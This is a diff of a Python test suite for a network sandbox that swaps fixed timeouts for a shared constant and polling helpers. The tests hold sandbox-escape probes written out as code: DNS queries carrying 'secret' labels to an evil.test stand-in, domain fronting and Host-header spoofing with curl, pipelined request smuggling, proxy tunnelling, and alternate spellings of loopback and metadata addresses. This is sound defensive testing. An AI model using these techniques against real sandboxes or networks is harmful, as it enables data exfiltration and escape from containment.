@@ -5,6 +5,7 @@ import time
 
 import lab as labs
 from processes import children_of, is_alive, name_of
+from scratch import PATIENCE, until
 from session import HELPERS, Host, sanitized_too
 
 TESTS = []
@@ -28,17 +29,18 @@ def data_does_not_leave_in_the_labels_of_names(session):
     code = """
 attempt(lambda: socket.getaddrinfo("secret-one.evil.test", 443))
 for server in sys.argv[1:]:
+    server, seconds = server.split("=")
     query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x0asecret-two\\x04evil\\x04test\\0\\0\\x10\\0\\x01"
     def udp():
-        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1); s.sendto(query, (server, 53)); return s.recv(512)[3] & 15
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(int(seconds)); s.sendto(query, (server, 53)); return s.recv(512)[3] & 15
     def tcp():
-        s = socket.create_connection((server, 53), 1); s.sendall(len(query).to_bytes(2, "big") + query); return s.recv(512)[5] & 15
+        s = socket.create_connection((server, 53), PATIENCE); s.sendall(len(query).to_bytes(2, "big") + query); return s.recv(512)[5] & 15
     print(attempt(udp), attempt(tcp))
 """
-    run = lambda rules, *servers: session.run(rules, "/usr/bin/python3", "-c", HELPERS + code, *servers)
-    assert run(OPEN, labs.PUBLIC).out == "3 3\n"
+    run = lambda rules, *servers: session.run(rules, "/usr/bin/python3", "-c", HELPERS + code, *servers, timeout=60)
+    assert run(OPEN, f"{labs.PUBLIC}={PATIENCE}").out == "3 3\n"
     assert names_seen(session) == {"secret-one.evil.test", "secret-two.evil.test"}
-    done = run(["connect allowed.test"], "198.18.0.1", labs.PUBLIC)
+    done = run(["connect allowed.test"], f"198.18.0.1={PATIENCE}", f"{labs.PUBLIC}=1")
     assert done.out == "3 3\ntimeout ECONNREFUSED\n" or done.out == "3 3\ntimed out ECONNREFUSED\n", done
     assert session.lab.take() == []
 
@@ -105,7 +107,7 @@ def addresses_in_every_spelling_are_not_on_the_list(session):
                  "0.0.0.0", "0", "127.0.0.1", "[::ffff:7f00:1]", "64:ff9b::a9fe:a9fe"]
     code = f"""
 for spelling in {spellings}:
-    print(attempt(lambda: exchange(spelling.strip("[]"), 9000, b"x", 3)))"""
+    print(attempt(lambda: exchange(spelling.strip("[]"), 9000, b"x")))"""
     with Host("0.0.0.0", 9000) as host:
         control = session.outside(code).out.splitlines()
         assert control[:-1] == ["b'xthe end'"] * 5 + ["b'the host: x'"] * 4, control  # the last would need a translator
@@ -118,7 +120,7 @@ for spelling in {spellings}:
 
 @test
 def TLS_for_another_host_is_reset(session):
-    run = lambda rules, url, *more: session.run(rules, "curl", "-sS", "-k", "-m", "5", *more, url)
+    run = lambda rules, url, *more: session.run(rules, "curl", "-sS", "-k", "-m", str(PATIENCE), *more, url)
     fetch = lambda url, *more: run(["connect allowed.test"], url, *more)
     fronted = ("https://other.test/", "--connect-to", "other.test:443:allowed.test:443")
     assert fetch("https://allowed.test/").status == 0 and run(OPEN, *fronted).status == 0
@@ -211,17 +213,17 @@ print(attempt(lambda: shake("allowed.test", False)), attempt(lambda: shake("allo
 @sanitized_too
 def plain_HTTP_for_another_host_gets_a_403_that_says_why(session):
     rules = ["connect allowed.test:80"]
-    fine = session.run(rules, "curl", "-sS", "-m", "5", "http://allowed.test/a", "http://allowed.test/b")
+    fine = session.run(rules, "curl", "-sS", "-m", str(PATIENCE), "http://allowed.test/a", "http://allowed.test/b")
     assert fine.status == 0 and fine.out.count("hello") == 2, fine
     session.lab.take()
-    done = session.run(rules, "curl", "-sS", "-m", "5", "-w", "%{http_code}", "-H", "Host: other.test", "http://allowed.test/")
+    done = session.run(rules, "curl", "-sS", "-m", str(PATIENCE), "-w", "%{http_code}", "-H", "Host: other.test", "http://allowed.test/")
     assert "bawn: this sandbox may not reach allowed.test: the request is for another host" in done.out and "403" in done.out, done
     assert "`bawn ask connect HOST` asks for another host." in done.out and "bawn why" not in done.out, done
     done = session.python(rules, """
 two = b"GET / HTTP/1.1\\r\\nHost: allowed.test\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: other.test\\r\\n\\r\\n"
 print(attempt(lambda: exchange("allowed.test", 80, two))[-200:])""")
     assert "/second" not in str(session.lab.take()), done
-    done = session.run(["connect allowed.test:9000"], "curl", "-sS", "-m", "5", "-H", "Host: other.test", "http://allowed.test:9000/")
+    done = session.run(["connect allowed.test:9000"], "curl", "-sS", "-m", str(PATIENCE), "-H", "Host: other.test", "http://allowed.test:9000/")
     assert "for another host" in done.out, done
 
 
@@ -252,7 +254,7 @@ for port in (80, 9000):
 
 @test
 def an_allowed_host_is_no_proxy(session):
-    ask = ("curl", "-sS", "-m", "5", "-k", "-p", "-x", "http://allowed.test:3128", "https://other.test/")
+    ask = ("curl", "-sS", "-m", str(PATIENCE), "-k", "-p", "-x", "http://allowed.test:3128", "https://other.test/")
     assert session.run(OPEN, *ask).out == f"hello from {labs.PUBLIC} for other.test\n"
     session.lab.take()
     done = session.run(["connect allowed.test:3128"], *ask)
@@ -348,7 +350,7 @@ print(attempt(route), unshare())"""
 def ping_is_refused(session):
     code = f"""
 def ping(kind):
-    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); s.settimeout(3)
+    s = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP); s.settimeout(PATIENCE)
     head = struct.pack("!BBHHH", 8, 0, 0, 7, 1)
     s.sendto(struct.pack("!BBHHH", 8, 0, 0xffff - sum(struct.unpack("!4H", head)) & 0xffff, 7, 1), ("{labs.PUBLIC}", 0))
     return len(s.recv(200)) > 0
@@ -360,12 +362,12 @@ print(attempt(lambda: ping(socket.SOCK_RAW)), attempt(lambda: ping(socket.SOCK_D
 @test
 def UDP_leads_nowhere(session):
     code = f"""
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(PATIENCE)
 query = b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x03out\\x04test\\0\\0\\x01\\0\\x01"
 s.connect(("{labs.PUBLIC}", 53)); s.send(query)
 print(type(attempt(lambda: s.recv(512))) is bytes)"""
     assert session.python(OPEN, code).out == "True\n" and names_seen(session) == {"out.test"}
-    assert session.python([f"connect {labs.PUBLIC}:53", "connect allowed.test"], code).out == "False\n"
+    assert session.python([f"connect {labs.PUBLIC}:53", "connect allowed.test"], code.replace("PATIENCE", "2")).out == "False\n"
     assert session.lab.take() == []
 
 
@@ -406,7 +408,7 @@ with dial("198.18.0.1", 53) as s:
 
 
 FLOOD = """
-s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(10)
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(PATIENCE)
 def ask(name):
     s.sendto(b"\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0" + b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\\0\\0\\1\\0\\1",
              ("198.18.0.1", 53))
@@ -459,8 +461,8 @@ print("held", flush=True)
 sys.stdin.read()""", prefix=["prlimit", "--nofile=200:200"])
     assert process.stdout.readline() == "held\n"
     (helper,) = helpers_of(process.pid)
-    until, before, is_quiet = time.monotonic() + 20, -100, False
-    while not is_quiet and time.monotonic() < until:
+    end, before, is_quiet = time.monotonic() + PATIENCE, -100, False
+    while not is_quiet and time.monotonic() < end:
         now = processor_ticks(helper)
         is_quiet, before = now - before <= 2, now
         time.sleep(0.5)
@@ -475,7 +477,7 @@ held.sendall(b"x")
 held.recv(1)
 print(exchange("allowed.test", 9000, b"one"), flush=True)
 for line in sys.stdin:
-    held.settimeout(5)
+    held.settimeout(PATIENCE)
     print(attempt(lambda: held.recv(10)), attempt(lambda: exchange("198.18.0.2", 9000, b"two")), attempt(lambda: exchange("allowed.test", 9000, b"three")),
           socket.gethostbyname("allowed.test"), flush=True)
 """
@@ -493,8 +495,7 @@ def chat(session):
 def when_the_helper_dies_connections_break_and_the_next_one_is_served_by_another(session):
     process, helper = chat(session)
     os.kill(helper, signal.SIGKILL)
-    while session.events("helper-died") == []:
-        time.sleep(0.01)
+    until(lambda: session.events("helper-died"), "the helper's death is noticed")
     process.stdin.write("go\n")
     process.stdin.flush()
     assert process.stdout.readline() == "b'' ECONNREFUSED b'threethe end' 198.18.0.2\n"
@@ -520,8 +521,7 @@ for line in sys.stdin:
         assert ask() == "b'xthe end'"
         (helper,) = helpers_of(process.pid)
         os.kill(helper, signal.SIGKILL)
-        while len(session.events("helper-died")) < deaths:
-            time.sleep(0.01)
+        until(lambda: len(session.events("helper-died")) == deaths, "the helper's death is noticed")
     assert ask() == "EAI-3" and helpers_of(process.pid) == []
     assert "keeps crashing" in session.events("network-trouble")[-1]["why"]
     process.stdin.close()
@@ -537,10 +537,7 @@ def the_helper_ends_with_the_run_and_with_a_killed_bawn(session):
     process, helper = chat(session)
     process.kill()
     process.wait()
-    until = time.monotonic() + 30
-    while is_alive(helper) and time.monotonic() < until:
-        time.sleep(0.01)
-    assert not is_alive(helper)
+    until(lambda: not is_alive(helper), "the helper ends")
 
 
 @test
